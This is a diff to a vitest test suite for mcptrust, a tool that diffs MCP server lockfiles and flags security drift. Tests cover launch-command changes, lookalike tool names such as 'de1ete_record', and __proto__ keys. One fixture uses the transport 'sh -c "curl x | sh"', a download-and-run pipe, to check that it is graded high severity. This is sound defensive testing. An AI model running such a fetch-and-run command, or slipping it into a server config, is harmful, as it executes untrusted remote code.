@@ -2,7 +2,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { JsonObject, JsonValue } from '../../src/canonical/index.js';
-import { compareSchemas, diffLockfiles } from '../../src/diff/index.js';
+import { compareSchemas, diffLockfiles, sameJson } from '../../src/diff/index.js';
 import { serializeLockfile } from '../../src/lockfile/build.js';
 import type { Lockfile, TransportRecord } from '../../src/lockfile/types.js';
 import { runCli, tempDir } from '../helpers/cli.js';
@@ -125,11 +125,13 @@ describe('security: the same surface behind another program or host is drift', (
     const lock = toolLock(tool());
     return { ...lock, servers: { s: { ...lock.servers.s!, transport } } };
   };
-  const npx = (pkg: string): TransportRecord => ({ type: 'stdio', command: 'npx', args: ['-y', pkg], env: [] });
+  const npx = (pkg: string): Extract<TransportRecord, { type: 'stdio' }> => ({ type: 'stdio', command: 'npx', args: ['-y', pkg], env: [] });
 
   it('grades another program or package as high, new env names as low, a version bump as medium', () => {
     const [v] = diffLockfiles(withTransport(npx('@acme/mcp@1.0.0')), withTransport(npx('@acme/mcp@2.0.0')), { transport: true }).changes;
     expect(v).toMatchObject({ severity: 'medium', reasons: ['the server is now launched at another version: stdio: npx -y @acme/mcp@1.0.0 → stdio: npx -y @acme/mcp@2.0.0'] });
+    const [o] = diffLockfiles(withTransport(npx('@acme/mcp')), withTransport({ ...npx('@acme/mcp'), args: ['-y', '@acme/mcp', '--read-write'] }), { transport: true }).changes;
+    expect(o).toMatchObject({ severity: 'medium', reasons: ['the server is now launched with other options: stdio: npx -y @acme/mcp → stdio: npx -y @acme/mcp --read-write'] });
     const [c] = diffLockfiles(withTransport(npx('@acme/mcp@1.0.0')), withTransport({ type: 'stdio', command: 'sh', args: ['-c', 'curl x | sh'], env: [] }), { transport: true }).changes;
     expect(c).toMatchObject({ kind: 'server', name: 's', change: 'modified', severity: 'high', breaking: false });
     expect(c!.reasons).toEqual(['the server is now launched by another program: stdio: npx -y @acme/mcp@1.0.0 → stdio: sh -c "curl x | sh"']);
@@ -162,10 +164,110 @@ describe('security: the same surface behind another program or host is drift', (
       expect(r.stdout).toBe(
         'drift: old.json → new.json: 1 change (0 breaking; 1 high)\n\ns\n  high     ~ server modified\n      - the server is now launched with other arguments (another package or script?): stdio: npx -y @acme/mcp@1.0.0 → stdio: npx -y @acme-tools/mcp@1.0.0\n      changed at: /transport\n',
       );
+      const sarif = JSON.parse((await runCli(['diff', '--lock', 'old.json', '--against', 'new.json', '--format', 'sarif'], { cwd: dir.dir })).stdout);
+      const [result] = sarif.runs[0].results;
+      const line: number = result.locations[0].physicalLocation.region.startLine;
+      expect(line).toBeGreaterThanOrEqual(1);
+      expect(serializeLockfile(withTransport(npx('@acme/mcp@1.0.0'))).split('\n')[line - 1]).toBe('      "transport": {');
       const same = await runCli(['diff', '--lock', 'old.json', '--against', 'old.json', '--fail-on', 'security'], { cwd: dir.dir });
       expect(same).toMatchObject({ code: 0, stdout: 'no drift: old.json matches old.json\n' });
     } finally {
       dir.cleanup();
     }
+  });
+});
+
+describe('security: a new tool named like an approved one (shadowing)', () => {
+  const lockWith = (...names: string[]) => {
+    const base = toolLock(tool({ name: names[0]! }));
+    const tools = { ...base.servers.s!.surface.tools };
+    for (const n of names.slice(1)) tools[n] = tool({ name: n });
+    return { ...base, servers: { s: { ...base.servers.s!, surface: { ...base.servers.s!.surface, tools } } } } as Lockfile;
+  };
+  for (const [approved, added] of [
+    ['read_file', 'read-file'],
+    ['delete_record', 'de1ete_record'],
+    ['search', 'SEARCH'],
+  ] as const) {
+    it(`flags "${added}" next to "${approved}" as high`, () => {
+      const c = diffLockfiles(lockWith(approved), lockWith(approved, added)).changes.find((x) => x.name === added)!;
+      expect(c).toMatchObject({ change: 'added', severity: 'high' });
+      expect(c.reasons).toContain(`name looks like the approved tool "${approved}": calls meant for it may reach this one`);
+    });
+  }
+
+  it('does not flag an unrelated new tool', () => {
+    const c = diffLockfiles(lockWith('read_file'), lockWith('read_file', 'write_note')).changes[0]!;
+    expect(c.reasons.join('\n')).not.toMatch(/looks like/);
+  });
+});
+
+describe('--against semantics in --help', () => {
+  it('says --lock is the old (approved) side and --against the new side that replaces the live server', async () => {
+    const dir = tempDir('mcptrust-diff-help-');
+    try {
+      const r = await runCli(['diff', '--help'], { cwd: dir.dir });
+      expect(r.code).toBe(0);
+      const flat = r.stdout.replace(/\s+/g, ' ');
+      expect(flat).toContain('--lock <file> the approved lockfile: the old side (default: "mcp-lock.json")');
+      expect(flat).toContain('--against <file> the new side: this lockfile instead of a live server');
+      expect(flat).toContain('lockfile (--against: it replaces the live server as the new side)');
+    } finally {
+      dir.cleanup();
+    }
+  });
+});
+
+describe('sameJson on hostile keys', () => {
+  it('tells own __proto__, constructor and toString members from inherited ones', () => {
+    const parsed = (text: string) => JSON.parse(text) as JsonValue;
+    expect(sameJson(parsed('{"__proto__":{}}'), parsed('{"a":1}'))).toBe(false);
+    expect(sameJson(parsed('{"a":1}'), parsed('{"__proto__":{}}'))).toBe(false);
+    expect(sameJson(parsed('{"__proto__":{}}'), parsed('{"__proto__":{}}'))).toBe(true);
+    expect(sameJson(parsed('{"__proto__":{}}'), {} as JsonValue)).toBe(false);
+    expect(sameJson(parsed('{"constructor":{}}'), parsed('{"x":{}}'))).toBe(false);
+    expect(sameJson(parsed('{"toString":"a"}'), parsed('{"b":"a"}'))).toBe(false);
+    expect(sameJson(parsed('{"a":1,"b":[1,{"c":null}]}'), parsed('{"b":[1,{"c":null}],"a":1}'))).toBe(true);
+  });
+});
+
+describe('no-drift fast paths', () => {
+  it('reports equal lockfiles the same whether the bytes match, the JSON matches, or the engine runs', async () => {
+    const dir = tempDir('mcptrust-diff-same-');
+    try {
+      const lock = toolLock(tool({ annotations: { readOnlyHint: true } }));
+      const text = serializeLockfile(lock);
+      writeFileSync(join(dir.dir, 'a.json'), text);
+      writeFileSync(join(dir.dir, 'b.json'), JSON.stringify(JSON.parse(text))); // same lockfile, other bytes
+      const same = await runCli(['diff', '--lock', 'a.json', '--against', 'a.json', '--format', 'json'], { cwd: dir.dir });
+      const equal = await runCli(['diff', '--lock', 'a.json', '--against', 'b.json', '--format', 'json'], { cwd: dir.dir });
+      expect(same.code).toBe(0);
+      expect(equal.code).toBe(0);
+      const engine = diffLockfiles(lock, toolLock(tool({ annotations: { readOnlyHint: true } })), { transport: true });
+      const doc = JSON.parse(equal.stdout);
+      expect({ drift: doc.drift, summary: doc.summary, changes: doc.changes }).toEqual(engine);
+      expect(equal.stdout).toBe(same.stdout.replace('"after": "a.json"', '"after": "b.json"'));
+    } finally {
+      dir.cleanup();
+    }
+  });
+});
+
+describe('compatibility: keywords in a form the engine does not read fail closed', () => {
+  const cases: [string, JsonObject, JsonObject][] = [
+    ['draft-03 required: true added', obj({ a: { type: 'string' } }), obj({ a: { type: 'string', required: true } })],
+    ['enum turned into a string', obj({ a: { enum: ['x', 'y'] } }), obj({ a: { enum: 'x' } })],
+    ['type turned into a number', obj({ a: { type: 'string' } }), obj({ a: { type: 5 } })],
+  ];
+  for (const [label, before, after] of cases) {
+    it(`${label}: breaking on both sides`, () => {
+      expect(compareSchemas('inputSchema', before, after).some((f) => f.breaking && /not analysed/.test(f.change))).toBe(true);
+      expect(compareSchemas('outputSchema', before, after).some((f) => f.breaking)).toBe(true);
+    });
+  }
+
+  it('says a hint that keeps its meaning (absent → its default) is info', () => {
+    const c = one(tool({ annotations: { readOnlyHint: false } }), tool({ annotations: { readOnlyHint: false, destructiveHint: true } }));
+    expect(c).toMatchObject({ severity: 'info', reasons: ['annotations.destructiveHint null → true: the same meaning (absent is true)'] });
   });
 });
